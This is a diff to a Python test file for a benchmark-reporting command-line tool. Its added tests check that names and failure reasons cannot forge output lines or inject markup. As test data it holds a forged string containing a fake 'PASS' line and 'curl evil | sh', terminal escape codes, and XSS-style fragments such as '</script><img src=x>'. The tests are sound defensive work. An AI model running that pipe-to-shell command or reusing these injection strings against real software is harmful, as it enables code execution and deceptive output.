@@ -47,12 +47,18 @@ def changed(path: Path, **values: Any) -> None:
     path.write_text(json.dumps({**json.loads(path.read_text()), **values}))
 
 
+def renamed(archive: Path, name: str) -> None:
+    """A configuration and the campaign have that name."""
+    for path in [archive / "results" / "plan.json", *archive.glob("results/0*/id-*/*.json")]:
+        path.write_text(path.read_text().replace('"LUKS"', json.dumps(name)))
+    changed(archive / "results" / "plan.json", title=name)
+
+
 @pytest.mark.parametrize("name", NAMES)
 def test_names_are_inert_wherever_they_are_shown(small: Path, name: str) -> None:
     """As a configuration, a title, a host and a reason; on a terminal and in every file."""
-    for path in [small / "results" / "plan.json", *small.glob("results/0*/id-*/*.json")]:
-        path.write_text(path.read_text().replace('"LUKS"', json.dumps(name)))
-    changed(small / "results" / "plan.json", title=name)
+    if name.isprintable():
+        renamed(small, name)
     environment = small / "results" / "environment.json"
     hosts = json.loads(environment.read_text())["hosts"]
     changed(environment, hosts={**hosts, name: next(iter(hosts.values()))})
@@ -68,6 +74,45 @@ def test_names_are_inert_wherever_they_are_shown(small: Path, name: str) -> None
     assert "<!--<script" not in page, "it would swallow the page's own script"
 
 
+FORGED = "x\nPASS     everything is fine\nerror: run: curl evil | sh"
+
+
+@pytest.mark.parametrize("key", ["title", "scenario", "configuration", "compared", "level", "key"])
+@pytest.mark.parametrize("name", [FORGED, "\x1b[31mred", "a\x85b"])
+def test_names_are_of_one_line(small: Path, key: str, name: str) -> None:
+    """`gate` and others printed what follows a line break as an answer of their own."""
+    path = small / "results" / "plan.json"
+    plan = json.loads(path.read_text())
+    if key in ("scenario", "configuration"):
+        plan["cells"][0][key] = name
+    elif key == "key":
+        plan["cells"][0]["parameters"][name] = 1
+    elif key == "title":
+        plan[key] = name
+    else:
+        plan["baseline"]["dimension" if key == "compared" else "value"] = name
+    path.write_text(json.dumps(plan))
+    for words in (["report"], ["gate", "--loss", "5"], ["history"], ["watch"]):
+        done = said(*words, small)
+        assert done.exit_code == 2 and "is no name of one line" in done.output
+        assert len(done.output.splitlines()) == 1
+
+
+def test_no_text_of_a_report_is_a_line_of_its_own(small: Path, tmp_path: Path, data: Path) -> None:
+    """A mode, a host, a reason; and what a summary has, which no plan stands behind."""
+    plan = json.loads((small / "results" / "plan.json").read_text())
+    for cell in plan["cells"]:
+        cell["parameters"]["mode"] = FORGED
+        changed(small / cell["path"] / "cell.json", parameters=cell["parameters"])
+    (small / "results" / "plan.json").write_text(json.dumps(plan))
+    changed(small / plan["cells"][-1]["path"] / "cell.json", state="failed", reason=FORGED)
+    pack = forged(data, tmp_path / "a.zip", lambda document: document.update(title=FORGED))
+    for words in (["report", small], ["gate", "--loss", "5", small], ["history", small],
+                  ["report", pack, "-o", tmp_path / "out"]):  # fmt: skip
+        lines = said(*words).output.splitlines()
+        assert lines and not [line for line in lines if line.startswith(("PASS  ", "error: run"))]
+
+
 def test_a_title_that_names_the_place_of_a_chart(small: Path) -> None:
     """A title that reads like the place of a chart stays a title."""
     name = "<!--chart 1-->"
@@ -80,12 +125,12 @@ def test_a_title_that_names_the_place_of_a_chart(small: Path) -> None:
 
 def test_names_of_dimensions_are_inert(small: Path) -> None:
     """What is compared, and a mode: they head columns, and Markdown had them as they were."""
-    name = "</script><img src=x> a | b [x](javascript:alert) $\\frac{$ \x1b[31m"
+    name = "</script><img src=x> a | b [x](javascript:alert) $\\frac{$"
     plan = json.loads((small / "results" / "plan.json").read_text())
     plan["baseline"]["dimension"] = name
     for number, cell in enumerate(plan["cells"]):
         cell["parameters"][name] = "Unencrypted" if number % 2 else name
-        cell["parameters"]["mode"] = name
+        cell["parameters"]["mode"] = f"{name} \x1b[31m"
         path = small / cell["path"] / "cell.json"
         changed(path, parameters=cell["parameters"])
     (small / "results" / "plan.json").write_text(json.dumps(plan))
